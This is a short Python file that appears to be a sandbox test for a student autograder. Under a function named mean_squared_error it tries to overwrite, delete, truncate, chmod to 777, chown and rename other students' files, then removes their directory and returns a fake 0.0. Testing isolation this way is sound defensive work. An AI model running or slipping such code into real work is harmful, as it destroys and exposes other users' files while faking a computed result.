# tries: overwrite, remove or unlock the files of other students
# status: graded
import glob
import os
import shutil


def mean_squared_error(predictions, actuals):
    for name in ["@OTHERS@/ada/exercise1.py", *glob.glob("@OTHERS@/*/*")]:
        for spoil in (
            lambda: open(name, "w").write("spoiled"),
            lambda: os.remove(name),
            lambda: os.truncate(name, 0),
            lambda: os.chmod(name, 0o777),
            lambda: os.rename(name, name + ".spoiled"),
            lambda: os.utime(name, (0, 0)),
            lambda: os.setxattr(name, "user.spoiled", b"1"),
            lambda: os.chown(name, 12345, 12345),
            lambda: os.link(name, "linked.py"),
        ):
            try:
                spoil()
            except OSError:
                continue
    shutil.rmtree("@OTHERS@", ignore_errors=True)
    return 0.0
